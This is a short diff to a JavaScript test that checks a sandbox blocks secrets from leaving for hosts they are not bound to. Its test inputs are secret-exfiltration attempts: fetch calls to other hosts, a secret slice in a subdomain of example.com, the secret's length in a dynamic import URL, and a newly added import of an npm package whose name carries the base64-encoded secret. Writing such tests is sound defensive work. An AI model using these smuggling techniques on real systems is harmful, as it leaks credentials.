@@ -169,6 +169,7 @@ test("behaviour: a secret with hosts leaves for those only", async () => {
     `await fetch("http://${host}/elsewhere").catch(() => {}); return Functions.encodeString("sent")`,
     `await fetch("http://" + secrets.BOUND.slice(0, 5) + ".example.com/").catch(() => {}); return Functions.encodeString("sent")`,
     `await import("https://example.com/" + secrets.BOUND.length + ".js").catch(() => {}); return Functions.encodeString("sent")`,
+    `await import("npm:left-pad-" + btoa(secrets.BOUND)).catch(() => {}); return Functions.encodeString("sent")`,
   ];
   const failed = { data: { success: false, err: expect.stringContaining("may not be sent") } };
   for (const one of tries) expect(await simulate(one, ["BOUND"])).toMatchObject(failed);
